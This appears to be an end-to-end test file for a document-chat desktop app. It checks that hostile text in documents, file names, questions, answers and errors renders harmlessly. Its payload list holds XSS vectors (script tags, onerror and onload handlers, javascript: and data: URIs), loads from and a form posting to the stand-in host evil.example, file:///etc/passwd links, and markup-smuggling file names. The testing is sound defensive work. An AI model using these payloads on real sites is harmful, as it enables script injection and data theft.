// Documents and answers of bad intent: what they hold is shown as words and does nothing.
import { createHash } from "node:crypto";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import type { Citation } from "../../../contract/answer.ts";
import { openLibrary } from "../../../host/store/library.ts";
import { answerOf } from "../../unit/store/answerOf.ts";
import { pdfOf } from "../madeUpDocuments.ts";
import type { WindowShell } from "./shells.ts";

const run = "globalThis.hacked=true";
const away = "http://evil.example";

const hostile = [
  `<script>${run}</script><script src="${away}/a.js"></script>`,
  `<img src="${away}/a.png" onerror="${run}"><img src=x onerror=${run}>`,
  `![picture](${away}/b.png) ![file](file:///etc/passwd)`,
  `[one](javascript:${run}) [two](JaVaScRiPt:${run}) [three](data:text/html,<script>${run}</script>)`,
  `[four](file:///etc/passwd) [five](vbscript:${run}) [six](&#106;avascript:${run})`,
  `<iframe src="${away}/"></iframe><object data="${away}/"></object><embed src="${away}/">`,
  `<form action="${away}/"><input name="word"><button>Send</button></form>`,
  `<style>* { background: url(${away}/c.png) }</style><link rel="stylesheet" href="${away}/d.css">`,
  `<base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}/">`,
  `<svg onload="${run}"><a xlink:href="javascript:${run}">x</a></svg><details open ontoggle="${run}">`,
  `<a href="${away}/" onclick="${run}">seven</a> <div style="position:fixed;inset:0" id="composer">`,
  `$\\href{javascript:${run}}{x}$ $\\includegraphics{${away}/e.png}$ $\\htmlStyle{color:red}{x}$`,
  `| <img src=x onerror=${run}> |\n|---|\n| <b onmouseover="${run}">cell</b> |`,
  "```html\n<script>globalThis.hacked=true</script>\n```",
  `[A plain link](${away}/page).`,
].join("\n\n");

export function describeHostile(shell: WindowShell): void {
  const page = () => shell.page();

  describe("hostile words", () => {
    beforeAll(() => {
      shell.complaints.length = 0;
    });

    test.each([
      ["text", `<img src=x onerror=${run}>.md`, Buffer.from(hostile)],
      ["pages", `"><script>${run}<script>.pdf`, pdfOf([hostile])],
    ])("of a document with %s do nothing", async (_kind, name, content) => {
      const path = join(shell.place.folder, name.replaceAll("/", "_"));
      await writeFile(path, content);
      await shell.add(path);
      await page()
        .getByText(/evil\.example\/a\.js/)
        .first()
        .waitFor();
      expect(await harmIn(shell)).toEqual(harmless);
    });

    test("of an answer, its question, passages and errors do nothing", async () => {
      const content = Buffer.from(hostile);
      await writeChat(shell, createHash("sha256").update(content).digest("hex"));
      await page().getByRole("button", { name: "onerror" }).first().click();
      const chat = page().getByRole("region", { name: "Chat", exact: true });
      const [answered, failed] = [
        chat.getByRole("article").first(),
        chat.getByRole("article").last(),
      ];
      await answered.getByRole("link", { name: "A plain link" }).waitFor();
      await failed.getByText(/the engine said/).waitFor();
      await answered.getByText("Rests on one passage").click();
      await answered.getByRole("listitem").getByText("onerror").first().waitFor();
      await answered.getByText(/tokens · pages/).click();
      expect(await harmIn(shell)).toEqual(harmless);
    });
  });
}

/** Rows as the host itself would have written them. */
async function writeChat({ place }: WindowShell, documentId: string): Promise<void> {
  const library = await openLibrary(place.data);
  const { chats } = library;
  const chatId = chats.create({ documentId, path: "hostile.md", pages: null });
  const ask = () =>
    chats.ask(chatId, {
      question: `<img src=x onerror=${run}> ${hostile}`,
      runId: crypto.randomUUID(),
      mode: "ab-sparse",
      budgetTokens: 2048,
      pages: null,
    }).turnId;
  const citation: Citation = {
    quote: `<img src=x onerror=${run}>`,
    page: 1,
    verified: true,
    from: "quotation",
    match: "exact",
    start: 0,
    end: 9,
    sentence: 0,
    boxes: [],
  };
  const answer = answerOf(hostile, { citations: [citation], notices: [hostile] });
  chats.answered(ask(), answer, null);
  chats.failed(ask(), { code: "internal", message: `the engine said ${hostile}` });
  library.close();
}

const harmless = {
  hacked: false,
  elements: [],
  handlers: [],
  pictures: [],
  links: [],
  styled: [],
  composers: 1,
  address: true,
  complaints: [],
};

/** Everything that the words could have brought about. */
async function harmIn(shell: WindowShell): Promise<typeof harmless> {
  const seen = await shell.page().evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const named = (names: string) => [...document.body.querySelectorAll(names)];
    return {
      hacked: "hacked" in globalThis,
      elements: named("script, iframe, object, embed, base, meta, link, style").map(
        ({ outerHTML }) => outerHTML,
      ),
      handlers: all.flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith("on")),
      ),
      pictures: [...document.images].map(({ src }) => src),
      links: [...document.links].map(({ href }) => href).filter((href) => !/^https?:/.test(href)),
      // Formulas have styles of their own.
      styled: [...document.querySelectorAll("[class*=markdown] [style]:not(.katex *)")]
        .map(({ outerHTML }) => outerHTML)
        .filter((html) => !html.includes("katex-error")),
      composers: document.querySelectorAll("#composer").length,
      address: location.pathname === "/",
    };
  });
  // Styles of formulas come out of an inert document, where the page's policy refuses them aloud.
  const complaints = shell.complaints.filter((text) => !/inline style/.test(text));
  return { ...seen, complaints } as unknown as typeof harmless;
}
